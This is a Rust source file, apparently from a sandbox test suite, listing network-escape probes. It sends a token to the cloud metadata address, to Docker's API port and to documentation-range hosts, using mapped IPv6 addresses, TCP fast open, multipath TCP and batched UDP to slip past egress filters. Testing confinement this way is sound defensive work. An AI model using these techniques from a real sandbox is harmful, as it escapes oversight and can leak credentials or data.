//! Ways to reach an address.

use std::io;
use std::net::{IpAddr, Ipv6Addr, SocketAddr};
use std::os::fd::{AsRawFd, OwnedFd};

use super::{Deed, Harm, if_there};
use crate::Failure;
use crate::kernel::{checked, owned, syscall};
use crate::stage::Stage;

const IPPROTO_MPTCP: i32 = 262;

pub(super) const DEEDS: &[Deed] = &[
    Deed::new("connect", &["6.7"], "connect to the metadata service", Harm::Contact("metadata"), |stage| {
        tcp(stage, "169.254.169.254:80")
    }),
    Deed::new(
        "connect6",
        &["6.7"],
        "connect to the metadata service, IPv6",
        Harm::Contact("metadata6"),
        |stage| tcp(stage, "[fd00:ec2::254]:80"),
    ),
    Deed::new(
        "connect-mapped",
        &["6.7"],
        "IPv4 address written as an IPv6 one",
        Harm::Contact("metadata"),
        |stage| tcp(stage, "[::ffff:169.254.169.254]:80"),
    ),
    Deed::new(
        "connect-odd-port",
        &["6.7"],
        "unusual port of a public address",
        Harm::Contact("abroad"),
        |stage| tcp(stage, "203.0.113.7:8000"),
    ),
    Deed::new(
        "connect-zero",
        &["6.7", "6.34"],
        "0.0.0.0 for this machine: Docker's port",
        Harm::Contact("docker"),
        |stage| tcp(stage, "0.0.0.0:2375"),
    ),
    Deed::new(
        "connect-zero6",
        &["6.7", "6.34"],
        ":: for this machine: Docker's port",
        Harm::Contact("docker"),
        |stage| tcp(stage, "[::]:2375"),
    ),
    Deed::new(
        "connect-nonblocking",
        &["6.5"],
        "connect that returns before it is connected",
        Harm::Contact("metadata"),
        nonblocking,
    ),
    Deed::new(
        "connect-user",
        &["6.7"],
        "connect to the metadata service, not as root",
        Harm::Contact("metadata"),
        |stage| tcp(stage, "169.254.169.254:80"),
    )
    .ordinary(),
    Deed::new(
        "fast-open",
        &["6.4"],
        "sendto with MSG_FASTOPEN: a connection without connect",
        Harm::Contact("metadata"),
        |stage| fast_open(stage, "169.254.169.254:80"),
    )
    .unless("a kernel without TCP fast open"),
    Deed::new("fast-open6", &["6.4"], "the same, IPv6", Harm::Contact("metadata6"), |stage| {
        fast_open(stage, "[fd00:ec2::254]:80")
    })
    .unless("a kernel without TCP fast open"),
    Deed::new(
        "fast-open-sendmsg",
        &["6.4"],
        "sendmsg with MSG_FASTOPEN",
        Harm::Contact("abroad"),
        fast_open_sendmsg,
    )
    .unless("a kernel without TCP fast open"),
    Deed::new(
        "fast-open-connect",
        &["6.4"],
        "TCP_FASTOPEN_CONNECT: connected by the first write",
        Harm::Contact("metadata"),
        fast_open_connect,
    )
    .unless("a kernel without TCP fast open"),
    Deed::new("mptcp", &["6.6"], "multipath TCP to the metadata service", Harm::Contact("metadata"), mptcp)
        .unless("a kernel without multipath TCP"),
    Deed::new(
        "mptcp-fast-open",
        &["6.4", "6.6"],
        "multipath TCP, sendto with MSG_FASTOPEN",
        Harm::Contact("metadata"),
        mptcp_fast_open,
    )
    .unless("a kernel without multipath TCP, or one that cannot do this with it"),
    Deed::new("sendto", &["6.5"], "datagram by sendto, unconnected", Harm::Contact("abroad-udp"), |stage| {
        datagram_to(stage, "203.0.113.7:8000")
    }),
    Deed::new("sendto6", &["6.5"], "the same, IPv6", Harm::Contact("abroad6-udp"), |stage| {
        datagram_to(stage, "[2001:db8::7]:8000")
    }),
    Deed::new(
        "sendto-mapped",
        &["6.5", "6.7"],
        "datagram to an IPv4 address written as an IPv6 one",
        Harm::Contact("abroad-udp"),
        |stage| datagram_to(stage, "[::ffff:203.0.113.7]:8000"),
    ),
    Deed::new(
        "sendto-metadata",
        &["6.5"],
        "datagram to the metadata service",
        Harm::Contact("metadata-udp"),
        |stage| datagram_to(stage, "169.254.169.254:80"),
    ),
    Deed::new("sendmsg", &["6.5"], "datagram by sendmsg, unconnected", Harm::Contact("abroad-udp"), sendmsg),
    Deed::new(
        "sendmmsg",
        &["6.5", "2.11 sendmmsg"],
        "datagrams by sendmmsg, the first one harmless",
        Harm::Contact("abroad-udp"),
        sendmmsg,
    ),
    Deed::new("udp-connect", &["6.5"], "connected datagram socket", Harm::Contact("abroad-udp"), udp_connect),
    Deed::new(
        "udp-reconnect",
        &["6.5"],
        "datagram socket connected elsewhere, with an address all the same",
        Harm::Contact("abroad-udp"),
        udp_other,
    ),
    Deed::new("udp-lite", &["6.6"], "UDP-Lite datagram", Harm::Contact("lite"), udp_lite)
        .unless("a kernel without UDP-Lite"),
];

/// An address as the kernel wants it.
#[derive(Clone, Copy, Debug)]
pub(super) enum Address {
    V4(libc::sockaddr_in),
    V6(libc::sockaddr_in6),
}

impl Address {
    pub(super) fn of(text: &str) -> Result<Self, Failure> {
        let address: SocketAddr = text.parse()?;
        Ok(match address.ip() {
            IpAddr::V4(ip) => {
                // SAFETY: zero is a valid value for every field.
                let mut raw: libc::sockaddr_in = unsafe { std::mem::zeroed() };
                raw.sin_family = libc::AF_INET as u16;
                raw.sin_port = address.port().to_be();
                raw.sin_addr.s_addr = u32::from_ne_bytes(ip.octets());
                Self::V4(raw)
            }
            IpAddr::V6(ip) => Self::V6(v6(ip, address.port())),
        })
    }

    pub(super) fn pointer(&self) -> *const libc::sockaddr {
        match self {
            Self::V4(raw) => (&raw const *raw).cast(),
            Self::V6(raw) => (&raw const *raw).cast(),
        }
    }

    pub(super) fn length(&self) -> u32 {
        match self {
            Self::V4(_) => size_of::<libc::sockaddr_in>() as u32,
            Self::V6(_) => size_of::<libc::sockaddr_in6>() as u32,
        }
    }

    pub(super) fn family(&self) -> i32 {
        match self {
            Self::V4(_) => libc::AF_INET,
            Self::V6(_) => libc::AF_INET6,
        }
    }
}

fn v6(ip: Ipv6Addr, port: u16) -> libc::sockaddr_in6 {
    // SAFETY: zero is a valid value for every field.
    let mut raw: libc::sockaddr_in6 = unsafe { std::mem::zeroed() };
    raw.sin6_family = libc::AF_INET6 as u16;
    raw.sin6_port = port.to_be();
    raw.sin6_addr.s6_addr = ip.octets();
    raw
}

/// A socket of any kind.
pub(super) fn socket(family: i32, kind: i32, protocol: i32) -> io::Result<OwnedFd> {
    // SAFETY: the call takes no pointers.
    owned(checked(unsafe { libc::socket(family, kind | libc::SOCK_CLOEXEC, protocol) })?)
}

pub(super) fn stream(family: i32, protocol: i32) -> io::Result<OwnedFd> {
    socket(family, libc::SOCK_STREAM, protocol)
}

pub(super) fn datagram(family: i32) -> io::Result<OwnedFd> {
    socket(family, libc::SOCK_DGRAM, 0)
}

pub(super) fn connect(socket: &OwnedFd, to: &Address) -> io::Result<()> {
    // SAFETY: the address lives and has the length given.
    checked(unsafe { libc::connect(socket.as_raw_fd(), to.pointer(), to.length()) }).map(drop)
}

pub(super) fn send(socket: &OwnedFd, bytes: &[u8]) -> io::Result<()> {
    // SAFETY: the buffer lives and has the length given.
    checked(unsafe { libc::send(socket.as_raw_fd(), bytes.as_ptr().cast(), bytes.len(), 0) } as i64).map(drop)
}

pub(super) fn send_to(socket: &OwnedFd, bytes: &[u8], flags: i32, to: &Address) -> io::Result<()> {
    let (pointer, length) = (bytes.as_ptr().cast(), bytes.len());
    // SAFETY: the buffer and the address live and have the lengths given.
    let sent = unsafe { libc::sendto(socket.as_raw_fd(), pointer, length, flags, to.pointer(), to.length()) };
    checked(sent as i64).map(drop)
}

/// A part of a message: only ever read from.
pub(super) fn part(bytes: &[u8]) -> libc::iovec {
    libc::iovec { iov_base: bytes.as_ptr().cast_mut().cast(), iov_len: bytes.len() }
}

/// A message of one part. Both must outlive it.
pub(super) fn message(to: &Address, part: &mut libc::iovec) -> libc::msghdr {
    // SAFETY: zero is a valid value for every field.
    let mut message: libc::msghdr = unsafe { std::mem::zeroed() };
    message.msg_name = to.pointer().cast_mut().cast();
    message.msg_namelen = to.length();
    message.msg_iov = part;
    message.msg_iovlen = 1;
    message
}

fn tcp(stage: &Stage, to: &str) -> Result<(), Failure> {
    let to = Address::of(to)?;
    let socket = stream(to.family(), 0)?;
    connect(&socket, &to)?;
    Ok(send(&socket, stage.token.as_bytes())?)
}

fn nonblocking(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("169.254.169.254:80")?;
    let socket = socket(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
    match connect(&socket, &to) {
        Err(why) if why.raw_os_error() == Some(libc::EINPROGRESS) => {}
        other => other?,
    }
    // On loopback the handshake is over before the call returns, and the bytes wait for nobody.
    Ok(send(&socket, stage.token.as_bytes())?)
}

fn fast_open(stage: &Stage, to: &str) -> Result<(), Failure> {
    let to = Address::of(to)?;
    let socket = stream(to.family(), 0)?;
    if_there("MSG_FASTOPEN", send_to(&socket, stage.token.as_bytes(), libc::MSG_FASTOPEN, &to))
}

fn fast_open_sendmsg(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("203.0.113.7:8000")?;
    let socket = stream(libc::AF_INET, 0)?;
    let mut part = part(stage.token.as_bytes());
    let message = message(&to, &mut part);
    // SAFETY: the message, its part and its address live.
    let sent = unsafe { libc::sendmsg(socket.as_raw_fd(), &raw const message, libc::MSG_FASTOPEN) };
    if_there("MSG_FASTOPEN", checked(sent as i64)).map(drop)
}

fn fast_open_connect(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("169.254.169.254:80")?;
    let socket = stream(libc::AF_INET, 0)?;
    let one = 1_i32;
    let (level, option) = (libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT);
    // SAFETY: the option's value lives and has the length given.
    let set = unsafe { libc::setsockopt(socket.as_raw_fd(), level, option, (&raw const one).cast(), 4) };
    if_there("TCP_FASTOPEN_CONNECT", checked(set))?;
    connect(&socket, &to)?;
    Ok(send(&socket, stage.token.as_bytes())?)
}

fn mptcp(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("169.254.169.254:80")?;
    let socket = if_there("multipath TCP", stream(libc::AF_INET, IPPROTO_MPTCP))?;
    connect(&socket, &to)?;
    Ok(send(&socket, stage.token.as_bytes())?)
}

fn mptcp_fast_open(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("169.254.169.254:80")?;
    let socket = if_there("multipath TCP", stream(libc::AF_INET, IPPROTO_MPTCP))?;
    let sent = send_to(&socket, stage.token.as_bytes(), libc::MSG_FASTOPEN, &to);
    if_there("MSG_FASTOPEN", sent)
}

fn datagram_to(stage: &Stage, to: &str) -> Result<(), Failure> {
    let to = Address::of(to)?;
    Ok(send_to(&datagram(to.family())?, stage.token.as_bytes(), 0, &to)?)
}

fn sendmsg(stage: &Stage) -> Result<(), Failure> {
    let to = Address::of("203.0.113.7:8000")?;
    let socket = datagram(libc::AF_INET)?;
    let mut part = part(stage.token.as_bytes());
    let message = message(&to, &mut part);
    // SAFETY: the message, its part and its address live.
    checked(unsafe { libc::sendmsg(socket.as_raw_fd(), &raw const message, 0) } as i64)?;
    Ok(())
}

fn sendmmsg(stage: &Stage) -> Result<(), Failure> {
    let socket = datagram(libc::AF_INET)?;
    let (harmless, abroad) = (Address::of("127.0.0.1:9")?, Address::of("203.0.113.7:8000")?);
    let (mut one, mut other) = (part(b"nothing"), part(stage.token.as_bytes()));
    let mut messages = [
        libc::mmsghdr { msg_hdr: message(&harmless, &mut one), msg_len: 0 },
        libc::mmsghdr { msg_hdr: message(&abroad, &mut other), msg_len: 0 },
    ];
    let (fd, pointer) = (socket.as_raw_fd(), messages.as_mut_ptr());
    // SAFETY: two messages, as the length says; their parts and addresses live.
    let sent = unsafe { syscall!(libc::SYS_sendmmsg, fd, pointer, messages.len(), 0) }?;
    if sent == 2 { Ok(()) } else { Err(format!("{sent} of 2 datagrams were sent").into()) }
}

fn udp_connect(stage: &Stage) -> Result<(), Failure> {
    let socket = datagram(libc::AF_INET)?;
    connect(&socket, &Address::of("203.0.113.7:8000")?)?;
    Ok(send(&socket, stage.token.as_bytes())?)
}

fn udp_other(stage: &Stage) -> Result<(), Failure> {
    let socket = datagram(libc::AF_INET)?;
    connect(&socket, &Address::of("127.0.0.1:9")?)?;
    Ok(send_to(&socket, stage.token.as_bytes(), 0, &Address::of("203.0.113.7:8000")?)?)
}

fn udp_lite(stage: &Stage) -> Result<(), Failure> {
    let made = socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_UDPLITE);
    let socket = if_there("UDP-Lite", made)?;
    Ok(send_to(&socket, stage.token.as_bytes(), 0, &Address::of("203.0.113.7:8000")?)?)
}
